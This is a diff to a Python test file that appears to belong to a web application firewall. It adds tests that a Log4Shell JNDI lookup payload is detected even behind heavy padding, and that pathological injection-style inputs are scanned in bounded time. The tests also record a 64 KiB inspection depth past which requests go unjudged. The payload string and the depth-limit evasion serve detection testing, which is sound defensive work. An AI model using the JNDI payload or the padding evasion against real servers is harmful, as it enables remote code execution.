@@ -262,3 +262,34 @@ def test_spaces_written_plus_or_percent_20_need_no_decoding_trigger() -> None:
     stream = ENGINE.stream()
     stream.feed(get("/search?q=running%20shoes+for+kids"))
     assert stream._marked is None and stream._base == 0  # nothing was parsed
+
+
+def test_an_exploit_before_more_than_the_kept_bytes_is_still_found() -> None:
+    padded = post(
+        "/x", "q=${jndi:ldap://x/a}&pad=" + "a" * 70_000, "application/x-www-form-urlencoded"
+    )
+    assert [m.sensor for m in ENGINE.scan_request(padded)] == ["waf.log4shell"]
+    stream = ENGINE.stream()
+    stream.feed(get("/") * 2100)  # past 64 KiB of clean requests: no longer judged (the depth)
+    assert stream.feed(get("/?x=${jndi:ldap://x/a}")) == []
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "1' or " * 10_000,
+        "1 or " + "a" * 60_000,
+        "${" * 20_000 + "x" + "}" * 20_000,
+        "${lower:" * 6000 + "j" + "}" * 6000,
+        "%25" * 20_000,
+        "/*a*/" * 12_000,
+        "; " * 30_000,
+    ],
+    ids=["or-chain", "long-word", "open-lookups", "nested-lower", "percent", "comments", "semis"],
+)
+def test_hostile_requests_cost_bounded_time(body: str) -> None:
+    import time
+
+    t0 = time.monotonic()
+    ENGINE.scan_request(post("/x?" + body[:2000], body, "text/plain"))
+    assert time.monotonic() - t0 < 2.0
